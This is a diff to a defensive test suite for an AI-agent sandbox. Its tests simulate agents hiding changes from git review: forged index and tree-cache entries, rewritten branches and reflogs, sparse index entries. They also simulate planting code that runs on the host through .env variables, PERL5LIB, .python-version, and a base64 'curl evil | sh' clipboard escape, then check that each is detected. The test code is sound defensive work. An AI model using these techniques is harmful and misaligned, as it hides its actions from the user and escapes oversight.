@@ -9,7 +9,8 @@ import { execFileSync, spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import zlib from 'node:zlib';
 import path from 'node:path';
-import { plantedSince, removeCaches } from '../../sandbox/entry-files.ts';
+import { plantedReport, plantedSince, removeCaches } from '../../sandbox/entry-files.ts';
+import { refTips, rewrittenRefs } from '../../sandbox/git-review.ts';
 import { tempDir } from '../temp-dir.ts';
 
 const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 40);
@@ -101,6 +102,63 @@ t.test('twenty-first pass: a package changed in Composer\'s vendor, bundler\'s v
   t.ok(found.caches.includes(entry), 'the bootsnap entry is collected');
   removeCaches(found.caches);
   t.notOk(fs.existsSync(entry), 'and removed after the run');
+});
+
+t.test('twenty-second pass: Yarn Plug\'n\'Play\'s loader and its project cache of package archives changed during the run are named', async (t) => {
+  // Without zero-installs Yarn's own .gitignore lists `.pnp.*` and `.yarn/cache`: every `yarn run`,
+  // `yarn node` and the editor's Yarn SDK load `.pnp.cjs` (its data maps each package to a folder
+  // or archive), and PnP reads package code out of the archives as they are.
+  const work = tempDir(t, 'hunt22-sandbox-pnp-');
+  const write = writer(work);
+  write('.gitignore', '.pnp.*\n.yarn/cache\n.yarn/install-state.gz\n');
+  write('.pnp.cjs', '#!/usr/bin/env node\n"use strict";\n');
+  write('.pnp.loader.mjs', 'export {};\n');
+  write('.yarn/cache/lodash-npm-4.17.21-6382451519-eb835a2e51.zip', 'PK');
+  write('.yarn/cache/left-pad-npm-1.3.0-13fa96e17d-e6f7a8f1c7.zip', 'PK');
+  write('.yarn/install-state.gz', 'x');
+  write('.yarn/unplugged/esbuild-npm-0.19.0-abc/node_modules/esbuild/install.js', '// esbuild\n');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
+  t.same(named(), [], 'control: installed before the run');
+  write('.yarn/install-state.gz', 'y'); // Yarn's bookkeeping, no code
+  t.same(named(), [], 'control: the install state is not named');
+  fs.appendFileSync(path.join(work, '.pnp.cjs'), AGENT);
+  fs.appendFileSync(path.join(work, '.pnp.loader.mjs'), 'import "node:child_process";\n');
+  write('.yarn/cache/lodash-npm-4.17.21-6382451519-eb835a2e51.zip', 'PK forged');
+  fs.appendFileSync(path.join(work, '.yarn/unplugged/esbuild-npm-0.19.0-abc/node_modules/esbuild/install.js'), AGENT);
+  t.same(named(), ['.pnp.cjs', '.pnp.loader.mjs', '.yarn/cache/lodash-npm-4.17.21-6382451519-eb835a2e51.zip', '.yarn/unplugged/esbuild-npm-0.19.0-abc/node_modules/esbuild'], 'the loader, the archive and the unplugged package are named');
+});
+
+t.test('twenty-second pass: a file planted behind fifty decoys is still in the report after the run', async (t) => {
+  const work = tempDir(t, 'hunt22-sandbox-flood-');
+  const write = writer(work);
+  const since = await tick();
+  // The agent makes sixty .envrc files (each named, each harmless until allowed), then the one that
+  // matters: a VS Code task that runs on opening the folder, and a pytest plugin of the project.
+  for (let i = 0; i < 60; i++) write(`a${String(i).padStart(2, '0')}/.envrc`, 'export A=1\n');
+  write('zz/.vscode/tasks.json', '{"tasks": [{"command": "sh x", "runOptions": {"runOn": "folderOpen"}}]}\n');
+  write('zz/conftest.py', 'import os\n');
+  const found = plantedSince(since, '', work);
+  t.equal(found.planted.length, 62, 'all are found');
+  const report = plantedReport(found, '', work).join('\n');
+  t.match(report, /zz\/\.vscode .*tasks/, 'the VS Code task is in the report');
+  t.match(report, /zz\/conftest\.py/, 'and the conftest.py');
+  t.match(report, /and 20 more of the same kinds as above/, 'the decoys past the first ones are counted, not listed');
+  t.ok(report.split('\n').length < 60, `the report stays short (${report.split('\n').length} lines)`);
+});
+
+t.test('twenty-second pass: package names the report quotes in a line are printed escaped (no terminal control reaches the user\'s terminal)', async (t) => {
+  const work = tempDir(t, 'hunt22-sandbox-esc-');
+  const write = writer(work);
+  const since = await tick();
+  // Six packages changed (one line for the folder, quoting three names): the first names carry an
+  // OSC 52 (the terminal puts its text on the clipboard, pasted into a shell later), an erase of
+  // the line and a return, and a right-to-left override.
+  const evil = ['\u001b]52;c;Y3VybCBldmlsIHwgc2gK\u0007a', '\u001b[2K\rb', '\u202ec', 'd', 'e', 'f'];
+  for (const n of evil) write(`node_modules/${n}/index.js`, AGENT);
+  const report = plantedReport(plantedSince(since, '', work), '', work).join('\n');
+  t.match(report, /6 packages changed/, 'the folder is named');
+  t.notMatch(report, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'with no control character');
 });
 
 t.test('an install of many packages during the run is named as one line per folder', async (t) => {
@@ -299,8 +357,8 @@ t.test('numba\'s cache moved by NUMBA_CACHE_DIR is hidden (made first when missi
 // index and refs are its to write; `git status` and `git diff` trust both.
 const FORGE_INDEX = `
 import hashlib, os, struct, sys
-index, name, top = sys.argv[1], sys.argv[2].encode(), sys.argv[3]
-f = os.path.join(top, name.decode())
+index, name, top = sys.argv[1], bytes.fromhex(sys.argv[2]), os.fsencode(sys.argv[3])
+f = os.path.join(top, name)
 t = os.stat(f).st_mtime - 10
 os.utime(f, (t, t))  # older than the index: git does not take the entry as racy and look again
 b = bytearray(open(index, 'rb').read())
@@ -319,7 +377,7 @@ for _ in range(count):
         end = b.index(0, at); n = bytes(b[at:end]); at = start + ((at - start + end - at + 8) & ~7)
     prev = n
     if n == name:
-        st = os.stat(os.path.join(top, name.decode()))
+        st = os.stat(f)
         b[start:start + 40] = struct.pack('>10I', int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime), st.st_mtime_ns % 10**9,
             st.st_dev & 0xffffffff, st.st_ino & 0xffffffff, struct.unpack('>I', b[start + 24:start + 28])[0], st.st_uid, st.st_gid, st.st_size & 0xffffffff)
 b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()
@@ -333,8 +391,26 @@ function agentHides(repo: string, rel: string, how: Hide): void {
   if (how === 'untouched') return;
   fs.writeFileSync(path.join(repo, rel), `import os; os.system("touch $MARK")  # ${how}\n`);
   if (how === 'skip-worktree' || how === 'assume-unchanged') git(repo, 'update-index', `--${how}`, rel);
-  if (how === 'forged-stat') execFileSync('python3', ['-c', FORGE_INDEX, path.join(repo, '.git', 'index'), rel, repo]);
+  if (how === 'forged-stat') execFileSync('python3', ['-c', FORGE_INDEX, path.join(repo, '.git', 'index'), Buffer.from(rel).toString('hex'), repo]);
   if (how === 'staged') git(repo, 'add', rel);
+}
+/** The file at `rel` moved into a folder named by the bytes `hex` (no UTF-8); its name as a latin1 string. */
+function rawName(repo: string, rel: string, hex: string): string {
+  const named = Buffer.concat([Buffer.from(path.dirname(rel) === '.' ? '' : `${path.dirname(rel)}/`), Buffer.from(hex, 'hex')]);
+  fs.mkdirSync(Buffer.concat([Buffer.from(`${repo}/`), named]), { recursive: true });
+  const moved = Buffer.concat([named, Buffer.from(`/${path.basename(rel)}`)]);
+  fs.renameSync(path.join(repo, rel), Buffer.concat([Buffer.from(`${repo}/`), moved]));
+  return moved.toString('latin1');
+}
+/** agentHides for a name kept as bytes (argv cannot carry them from Node: git reads it on stdin). */
+function agentHidesRaw(repo: string, rel: string, how: Hide): void {
+  if (how === 'untouched') return;
+  const name = Buffer.from(rel, 'latin1');
+  fs.writeFileSync(Buffer.concat([Buffer.from(`${repo}/`), name]), `import os; os.system("touch $MARK")  # ${how}\n`);
+  const stdin = (...args: string[]): void => void execFileSync('git', args, { cwd: repo, env: GIT_ENV, input: Buffer.concat([name, Buffer.from([0])]), stdio: ['pipe', 'ignore', 'pipe'] });
+  if (how === 'skip-worktree' || how === 'assume-unchanged') stdin('update-index', `--${how}`, '-z', '--stdin');
+  if (how === 'forged-stat') execFileSync('python3', ['-c', FORGE_INDEX, path.join(repo, '.git', 'index'), name.toString('hex'), repo]);
+  if (how === 'staged') stdin('update-index', '-z', '--stdin');
 }
 const HIDDEN: Hide[] = ['skip-worktree', 'assume-unchanged', 'forged-stat'];
 
@@ -397,30 +473,212 @@ t.test('a tracked file changed during the run that git status does not show (ind
   t.equal(git(repo, 'status', '--porcelain').trim(), 'M  app.py', 'what it hid');
 });
 
-t.test('property: a change hidden from git status by any means, at any depth, in any index version, is named; visible ones are not', async (t) => {
+t.test('twenty-second pass: a branch rewritten during the run to a look-alike of its last commit (reflog too) is named; new commits on top are not', async (t) => {
+  const repo = tempDir(t, 'hunt22-sandbox-rewrite-');
+  writer(repo)('app.py', 'print("app")\n');
+  writer(repo)('util.py', 'print("util")\n');
+  git(repo, 'init', '-q', '-b', 'main');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  writer(repo)('util.py', 'print("util 2")\n');
+  git(repo, 'commit', '-qam', 'the user\'s last commit');
+  git(repo, 'branch', 'feature');
+  const before = refTips(repo);
+  const log = (): string => git(repo, 'log', '--format=%an %ad %cd %s', '--date=raw');
+  const shownLog = log();
+
+  // Controls: the agent's own new commit on top, and a branch it makes, are in git log as they are.
+  writer(repo)('new.py', 'print(1)\n');
+  git(repo, 'add', 'new.py');
+  git(repo, 'commit', '-qm', 'agent: add new.py');
+  git(repo, 'branch', 'agent-branch');
+  t.same(rewrittenRefs(before), [], 'control: commits on top and a new branch are not named');
+
+  // The attack: the user's last commit made again with the agent's change in its tree (the same
+  // parent, author, dates and message), put on main, and the reflogs' ids swapped for it.
+  const before2 = refTips(repo);
+  git(repo, 'reset', '-q', '--hard', 'HEAD~1');
+  const last = git(repo, 'rev-parse', 'HEAD').trim();
+  writer(repo)('app.py', 'import os; os.system("touch $MARK")\n');
+  git(repo, 'add', 'app.py');
+  const tree = git(repo, 'write-tree').trim();
+  const commit = git(repo, 'cat-file', 'commit', last).replace(/^tree .*/m, `tree ${tree}`);
+  const forged = execFileSync('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { cwd: repo, env: GIT_ENV, input: commit, encoding: 'utf8' }).trim();
+  git(repo, 'update-ref', 'refs/heads/main', forged);
+  git(repo, 'update-ref', 'refs/heads/feature', forged);
+  for (const f of ['logs/HEAD', 'logs/refs/heads/main', 'logs/refs/heads/feature']) {
+    const p = path.join(repo, '.git', f);
+    fs.writeFileSync(p, fs.readFileSync(p, 'utf8').split('\n').filter((l) => !l.includes(forged) && !/agent|reset/.test(l)).join('\n').replaceAll(last, forged));
+  }
+  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
+  t.equal(git(repo, 'diff', 'HEAD'), '', 'and git diff HEAD');
+  t.equal(log(), shownLog, 'and git log reads as before the run');
+  t.notMatch(git(repo, 'reflog', '--format=%H'), new RegExp(last), 'and the reflog never held the real commit');
+  const named = rewrittenRefs(before2);
+  t.same(named.map((h) => path.relative(path.join(repo, '.git'), h.path)).sort(), ['refs/heads/feature', 'refs/heads/main'], 'each branch moved off its history is named (HEAD, which moved with main, once)');
+  t.match(named.find((h) => h.path.endsWith('main'))?.why ?? '', new RegExp(`branch main was .*git diff ${before2!.tips.get('refs/heads/main')!.slice(0, 12)} main`), 'with how to see what changed');
+  t.match(git(repo, 'diff', before2!.tips.get('refs/heads/main')!, 'main', '--name-only'), /app\.py/, 'which shows the hidden change');
+});
+
+t.test('twenty-second pass: a change hidden under a sparse directory entry of git\'s index (made with a copy of the git folder) is named', async (t) => {
+  const repo = tempDir(t, 'hunt22-sandbox-sparse-');
+  for (const f of ['lib/x.py', 'lib/deep/z.py', 'src/y.py', 'top.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  const since = await tick();
+  // Inside, .git/info and the config are read-only: the agent copies the git folder, writes the
+  // patterns there, makes a sparse index with it and puts that index in place; then changes lib/.
+  const copy = path.join(tempDir(t, 'hunt22-sandbox-sparse-copy-'), 'g');
+  fs.cpSync(path.join(repo, '.git'), copy, { recursive: true });
+  fs.writeFileSync(path.join(copy, 'info', 'sparse-checkout'), '/*\n!/*/\n/src/\n');
+  execFileSync('git', ['-c', 'core.sparseCheckout=true', '-c', 'core.sparseCheckoutCone=true', '-c', 'index.sparse=true', 'read-tree', '-mu', 'HEAD'], { cwd: repo, env: { ...GIT_ENV, GIT_DIR: copy, GIT_WORK_TREE: repo } });
+  fs.copyFileSync(path.join(copy, 'index'), path.join(repo, '.git', 'index'));
+  writer(repo)('lib/x.py', 'import os; os.system("touch $MARK")\n');
+  writer(repo)('lib/deep/z.py', 'import os\n');
+  // Read as airlock run reads it, before any git of the host writes the index again.
+  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  const index = fs.readFileSync(path.join(repo, '.git', 'index'));
+  t.ok(index.includes('sdir') && index.includes('lib/\0'), 'control: the index holds lib/ as a sparse directory entry');
+  t.equal(git(repo, '--no-optional-locks', 'status', '--porcelain'), '', 'the attack: git status is clean');
+  t.equal(git(repo, '--no-optional-locks', 'diff', 'HEAD'), '', 'and git diff HEAD');
+  t.same(named, ['lib/deep/z.py', 'lib/x.py'], 'each changed file under the sparse entry is named');
+});
+
+// Twenty-second pass: git's cache of trees in the index (`TREE`), rewritten to name HEAD's trees.
+const FORGE_TREE = `
+import hashlib, struct, sys
+index, nodes = sys.argv[1], sys.argv[2:]
+b = bytearray(open(index, 'rb').read()[:-20])
+i = b.find(b'TREE', 12)
+ln = struct.unpack('>I', b[i + 4:i + 8])[0]
+body = b''
+for n in nodes:  # path:entries:subtrees:oid, in git's order
+    name, cnt, sub, oid = n.split(':')
+    body += name.encode() + b'\\0' + ('%s %s\\n' % (cnt, sub)).encode() + bytes.fromhex(oid)
+b = b[:i] + b'TREE' + struct.pack('>I', len(body)) + body + b[i + 8 + ln:]
+open(index, 'wb').write(bytes(b) + hashlib.sha1(bytes(b)).digest())
+`;
+
+t.test('twenty-second pass: a staged change hidden by git\'s cache of trees in the index (forged to name HEAD\'s trees) is named; the agent\'s own writes are not', async (t) => {
+  const repo = tempDir(t, 'hunt22-sandbox-cachetree-');
+  for (const f of ['lib/x.py', 'lib/deep/z.py', 'top.py', 'run.sh']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  const since = await tick();
+  // Controls: the agent's own staged change and commit, each with the cache git writes itself.
+  writer(repo)('top.py', 'print("agent")\n');
+  git(repo, 'add', 'top.py');
+  git(repo, 'write-tree');
+  git(repo, 'commit', '-qm', 'agent');
+  writer(repo)('run.sh', 'echo staged\n');
+  git(repo, 'add', 'run.sh');
+  git(repo, 'write-tree');
+  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  t.same(named(), [], 'control: the cache of trees git writes names nothing');
+  git(repo, 'reset', '-q', '--hard');
+  const rev = (r: string): string => git(repo, 'rev-parse', r).trim();
+  // The attack: a change staged, then every tree of the cache named as HEAD's.
+  writer(repo)('lib/deep/z.py', 'import os; os.system("touch $MARK")\n');
+  git(repo, 'add', 'lib/deep/z.py');
+  execFileSync('python3', ['-c', FORGE_TREE, path.join(repo, '.git', 'index'), `:4:1:${rev('HEAD^{tree}')}`, `lib:2:1:${rev('HEAD:lib')}`, `deep:1:0:${rev('HEAD:lib/deep')}`]);
+  const found = named();
+  t.equal(git(repo, '--no-optional-locks', 'status', '--porcelain'), '', 'the attack: git status is clean');
+  t.equal(git(repo, '--no-optional-locks', 'diff', 'HEAD'), '', 'and git diff HEAD');
+  t.same(found, ['lib/deep'], 'the folder whose recorded tree is not the index\'s is named (the deepest: those above differ with it)');
+});
+
+t.test('twenty-second pass: an ignored source file beside tracked sources (setuptools_scm\'s _version.py, local_settings.py) changed during the run is named; build outputs and logs are not', async (t) => {
+  const repo = tempDir(t, 'hunt22-sandbox-ignored-');
+  const write = writer(repo);
+  write('.gitignore', '_version.py\nlocal_settings.py\ndist/\n*.log\n');
+  write('pkg/__init__.py', 'from ._version import version\n');
+  write('pkg/_version.py', 'version = "1.0"\n'); // written by setuptools_scm at install, ignored
+  write('settings.py', 'try:\n    from local_settings import *\nexcept ImportError:\n    pass\n');
+  git(repo, 'init', '-q');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'init');
+  const since = await tick();
+  const mark = path.join(repo, 'IMPORT-RAN');
+  write('pkg/_version.py', `version = "1.0"\nopen(${JSON.stringify(mark)}, "w").close()\n`);
+  write('local_settings.py', 'DEBUG = True\n');
+  write('dist/app.js', 'console.log(1)\n'); // the agent's build
+  write('dist/lib/util.js', 'module.exports = 1\n');
+  write('test.log', 'ok\n');
+  const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
+  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
+  spawnSync('python3', ['-c', 'import pkg'], { cwd: repo, stdio: 'ignore', timeout: 10_000 });
+  t.ok(fs.existsSync(mark), 'and the host\'s next import of the package runs the agent\'s code');
+  t.same(named, ['local_settings.py', 'pkg/_version.py'], 'the ignored sources beside tracked ones are named; the build output and the log are not');
+});
+
+t.test('twenty-second pass: a commit put on a branch and on its remote-tracking ref during the run (git status: up to date) is named; a commit ahead or a fetch is not', async (t) => {
+  const origin = tempDir(t, 'hunt22-sandbox-origin-');
+  const repo = path.join(tempDir(t, 'hunt22-sandbox-clone-'), 'app');
+  git(origin, 'init', '-q', '--bare', '-b', 'main');
+  git(path.dirname(repo), 'clone', '-q', origin, repo);
+  writer(repo)('app.py', 'print(1)\n');
+  git(repo, 'add', '.');
+  git(repo, 'commit', '-qm', 'first');
+  git(repo, 'push', '-q', 'origin', 'main');
+  const before = refTips(repo);
+  const originBefore = git(repo, 'rev-parse', 'refs/remotes/origin/main').trim();
+  // Controls: the agent's commit, ahead of origin/main (git status says so), and a fetch.
+  writer(repo)('app.py', 'print(2)\n');
+  git(repo, 'commit', '-qam', 'agent');
+  t.match(git(repo, 'status', '-sb'), /ahead 1/, 'control: git status says the branch is ahead');
+  t.same(rewrittenRefs(before), [], 'control: a commit ahead is not named');
+  const other = path.join(path.dirname(repo), 'other');
+  git(path.dirname(repo), 'clone', '-q', origin, other);
+  writer(other)('b.py', 'print(3)\n');
+  git(other, 'add', '.');
+  git(other, 'commit', '-qm', 'someone else');
+  git(other, 'push', '-q', 'origin', 'main');
+  git(repo, 'fetch', '-q');
+  t.same(rewrittenRefs(before), [], 'control: a fetch (origin/main moved elsewhere) is not named');
+  git(repo, 'reset', '-q', '--hard', 'HEAD~1');
+  git(repo, 'update-ref', 'refs/remotes/origin/main', originBefore);
+  // The attack: the commit, dated as the user's last, and origin/main moved to it without a push.
+  writer(repo)('app.py', 'import os; os.system("touch $MARK")\n');
+  execFileSync('git', ['commit', '-qam', 'first (fixup)'], { cwd: repo, env: { ...GIT_ENV, GIT_COMMITTER_DATE: '2020-01-01T00:00:00Z', GIT_AUTHOR_DATE: '2020-01-01T00:00:00Z' } });
+  git(repo, 'update-ref', 'refs/remotes/origin/main', 'HEAD');
+  t.match(git(repo, 'status', '-sb'), /^## main\.\.\.origin\/main\n$/, 'the attack: git status says up to date, nothing to commit');
+  const named = rewrittenRefs(before);
+  t.same(named.map((h) => path.basename(h.path)), ['main'], 'the branch is named');
+  t.match(named[0]?.why ?? '', /origin\/main both moved .*git log -p/, 'with the remote-tracking ref and how to review');
+});
+
+t.test('property: a change hidden from git status by any means, at any depth, in any index version, under any name (in no UTF-8 too), is named; visible ones are not', async (t) => {
   const hows: Hide[] = [...HIDDEN, 'shown', 'staged', 'untouched'];
   await fc.assert(fc.asyncProperty(
     fc.constantFrom(2, 3, 4),
-    fc.array(fc.record({ dir: fc.array(fc.constantFrom('src', 'a', 'deep', 'pkg'), { maxLength: 3 }), how: fc.constantFrom(...hows) }), { minLength: 1, maxLength: 5 }),
+    fc.array(fc.record({ dir: fc.array(fc.constantFrom('src', 'a', 'deep', 'pkg'), { maxLength: 3 }), how: fc.constantFrom(...hows), raw: fc.constantFrom(undefined, undefined, 'ff', '636166e9') }), { minLength: 1, maxLength: 5 }),
     async (version, plan) => {
       const repo = fs.mkdtempSync(path.join(path.dirname(tempDir(t, 'hunt20-sandbox-gitp-')), 'hunt20-sandbox-gitp-'));
       try {
         const rels = plan.map((p, i) => path.join(...p.dir, `m${i}.py`));
         for (const r of rels) writer(repo)(r, `x = ${JSON.stringify(r)}\n`);
+        // Twenty-second pass: a folder named in no UTF-8 (one byte 0xff, or Latin-1's é), made as bytes.
+        const raw = plan.map((p, i) => p.raw ? rawName(repo, rels[i]!, p.raw) : undefined);
         git(repo, 'init', '-q');
         git(repo, 'add', '.');
         git(repo, 'commit', '-qm', 'init');
         git(repo, 'update-index', '--index-version', String(version));
         const since = await tick();
-        plan.forEach((p, i) => agentHides(repo, rels[i]!, p.how));
+        plan.forEach((p, i) => raw[i] ? agentHidesRaw(repo, raw[i]!, p.how) : agentHides(repo, rels[i]!, p.how));
         const named = plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
-        const expected = rels.filter((_, i) => HIDDEN.includes(plan[i]!.how)).sort();
+        const expected = rels.map((r, i) => raw[i] ? Buffer.from(raw[i]!, 'latin1').toString('utf8') : r).filter((_, i) => HIDDEN.includes(plan[i]!.how)).sort();
         return JSON.stringify(named) === JSON.stringify(expected);
       } finally {
         fs.rmSync(repo, { recursive: true, force: true });
       }
     },
-  ), { numRuns: process.env.AIRLOCK_FUZZ_RUNS ? numRuns : 5, seed });
+  ), {
+    numRuns: process.env.AIRLOCK_FUZZ_RUNS ? numRuns : 5, seed,
+    // Twenty-second pass: tracked names in no UTF-8, each way of hiding (fails without the fix).
+    examples: [[4, [{ dir: [], how: 'skip-worktree', raw: 'ff' }, { dir: ['src'], how: 'forged-stat', raw: '636166e9' }, { dir: [], how: 'assume-unchanged', raw: '636166e9' }, { dir: ['a'], how: 'shown', raw: 'ff' }]]],
+  });
 });
 
 t.test('a Python extension module made beside Python sources during the run is named; installed packages\' are not', async (t) => {
@@ -609,6 +867,77 @@ t.test('twenty-first pass: compose override files, conftest.py, the flake and sh
   const mark = path.join(work, 'CONFTEST-RAN');
   spawnSync('python3', ['-m', 'pytest', '-q', '-p', 'no:cacheprovider', 'tests'], { cwd: work, env: { ...process.env, HUNT_MARK: mark }, timeout: 20_000 });
   t.ok(fs.existsSync(mark), 'pytest on the host imported it');
+});
+
+t.test('twenty-second pass: a .env setting a variable that makes git, less, kubectl, the AWS CLI or bundler run a program or read config of the agent\'s is named', async (t) => {
+  // Tools load a project's .env into what they start (node --env-file, bun, pipenv, VS Code's
+  // Python terminals, direnv's dotenv): GIT_DIR and HOME/XDG_CONFIG_HOME move git's config (an
+  // fsmonitor runs at git status), LESSOPEN is a program less runs on every file it shows (git
+  // diff's pager), KUBECONFIG's and AWS_CONFIG_FILE's files name programs (exec, credential_process).
+  const work = tempDir(t, 'hunt22-sandbox-dotenv-');
+  const write = writer(work);
+  write('app.py', 'print(1)\n');
+  execFileSync('git', ['init', '-q'], { cwd: work, env: GIT_ENV });
+  const names = ['GIT_DIR', 'GIT_WORK_TREE', 'GIT_INDEX_FILE', 'GIT_TEMPLATE_DIR', 'GIT_SEQUENCE_EDITOR', 'HOME', 'XDG_CONFIG_HOME', 'LESSOPEN', 'LESSCLOSE', 'MANPAGER',
+    'KUBECONFIG', 'AWS_CONFIG_FILE', 'BUNDLE_GEMFILE', 'RUSTUP_TOOLCHAIN', 'CARGO_HOME', 'PYTHONWARNINGS', 'PERL5DB', 'SUDO_ASKPASS', 'NPM_CONFIG_USERCONFIG', 'NPM_CONFIG_GLOBALCONFIG', 'npm_config_prefix', 'GEM_HOME', 'GEM_PATH', 'GOENV', 'SHELL'];
+  const since = await tick();
+  names.forEach((n, i) => write(`e${i}/.env`, `PORT=1\n${n}=.cache/x\n`));
+  write('ok/.env', 'PORT=8080\nDATABASE_HOST=db\nHOMEPAGE_URL=https://example.com\nGIT_BRANCH=main\nLESS=-R\n');
+  const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
+  t.same(names.filter((_, i) => !named.includes(`e${i}/.env`)), [], 'each variable is named');
+  t.notOk(named.includes('ok/.env'), 'control: a .env of plain settings is not');
+  // The attack shown: a .env moving git to a folder of the agent's, loaded by node --env-file; the
+  // program's git status runs the agent's fsmonitor on the host.
+  const mark = path.join(work, 'FSMONITOR-RAN');
+  fs.mkdirSync(path.join(work, '.cache', 'g'), { recursive: true });
+  execFileSync('git', ['init', '-q', '--bare', path.join(work, '.cache', 'g')], { env: GIT_ENV });
+  fs.appendFileSync(path.join(work, '.cache', 'g', 'config'), `[core]\n\tbare = false\n\tfsmonitor = touch ${mark}; false\n`);
+  write('.env', `GIT_DIR=${path.join(work, '.cache', 'g')}\n`);
+  spawnSync(process.execPath, ['--env-file=.env', '-e', 'require("child_process").spawnSync("git", ["status"], { stdio: "ignore" })'], { cwd: work, env: GIT_ENV, timeout: 20_000 });
+  t.ok(fs.existsSync(mark), 'git on the host ran the agent\'s program');
+  t.ok(plantedSince(since, '', work).planted.some((f) => f.path === path.join(work, '.env')), 'and that .env is named');
+});
+
+t.test('twenty-second pass: a .python-version naming an interpreter by path (uv runs it) is named; one naming a version is not', async (t) => {
+  // uv takes any Python request from .python-version (and .python-versions): a version, or the path
+  // of an interpreter or install folder, which uv run, uv sync and uv venv in the folder run.
+  const work = tempDir(t, 'hunt22-sandbox-pyver-');
+  const write = writer(work);
+  const since = await tick();
+  const paths = ['./.cache/py/bin/python3', '.venv-x/', '/tmp/x/python', '~/bin/python', 'tools\\python.exe', '3.12\n./.cache/py'];
+  const versions = ['3.12', '3.12.3\n', 'cpython@3.12', '>=3.11,<3.13', '3.13t', 'pypy3.10', '# a comment\n3.11', 'myenv'];
+  paths.forEach((v, i) => write(`p${i}/${i % 2 ? '.python-versions' : '.python-version'}`, `${v}\n`));
+  versions.forEach((v, i) => write(`v${i}/.python-version`, `${v}\n`));
+  const named = plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path));
+  t.same(paths.filter((_, i) => !named.includes(`p${i}/${i % 2 ? '.python-versions' : '.python-version'}`)), [], 'each path is named');
+  t.same(named.filter((n) => n.startsWith('v')), [], 'control: versions are not');
+});
+
+t.test('twenty-second pass: the module folders PERL5LIB, PERLLIB, RUBYLIB, CLASSPATH and R_LIBS_USER name in the home folder are read-only inside and named when changed', async (t) => {
+  // local::lib's bootstrap in ~/.bashrc sets PERL5LIB=~/perl5/lib/perl5: every perl program (git's
+  // perl commands, exiftool, parallel) takes `use strict` from there before the system's.
+  const { envEntryFiles, homeEntryFiles } = await import('../../sandbox/entry-files.ts');
+  const home = tempDir(t, 'hunt22-sandbox-perl5-');
+  const project = path.join(home, 'src', 'app');
+  fs.mkdirSync(project, { recursive: true });
+  const dirs = ['perl5/lib/perl5', 'perl-old', '.rubylib', 'java/classes', 'R/library'];
+  for (const d of dirs) fs.mkdirSync(path.join(home, d), { recursive: true });
+  writer(home)('java/lib.jar', 'PK');
+  const env = {
+    PERL5LIB: `${path.join(home, 'perl5/lib/perl5')}:/usr/share/perl5`, PERLLIB: path.join(home, 'perl-old'), RUBYLIB: '~/.rubylib',
+    CLASSPATH: `.:${path.join(home, 'java/classes')}:${path.join(home, 'java/lib.jar')}`, R_LIBS_USER: path.join(home, 'R/library'),
+  };
+  const ro = homeEntryFiles(home, project, [], env);
+  for (const d of [...dirs, 'java/lib.jar']) t.ok(ro.includes(path.join(home, d)), `~/${d} is read-only inside`);
+  t.notOk([...envEntryFiles(env, home, project).keys()].some((p) => p === '/usr/share/perl5' || p === project), 'nothing outside the home folder or the working directory');
+  const since = await tick();
+  const strict = path.join(home, 'perl5/lib/perl5/strict.pm');
+  const mark = path.join(home, 'PERL-RAN');
+  fs.writeFileSync(strict, `package strict; open(my $f, '>', '${mark}'); sub import {} 1;\n`);
+  t.ok(plantedSince(since, home, project, '', env).planted.some((f) => f.path === path.join(home, 'perl5/lib/perl5')), 'the module planted there is named');
+  // The attack shown: the host's next perl script loads it.
+  spawnSync('perl', ['-e', 'use strict; print 1'], { env: { ...process.env, PERL5LIB: env.PERL5LIB }, stdio: 'ignore', timeout: 10_000 });
+  t.ok(fs.existsSync(mark), 'perl on the host ran the agent\'s strict.pm');
 });
 
 t.test('the programs ~/.ssh/config runs by path outside ~/.ssh are read-only inside and named when changed', async (t) => {
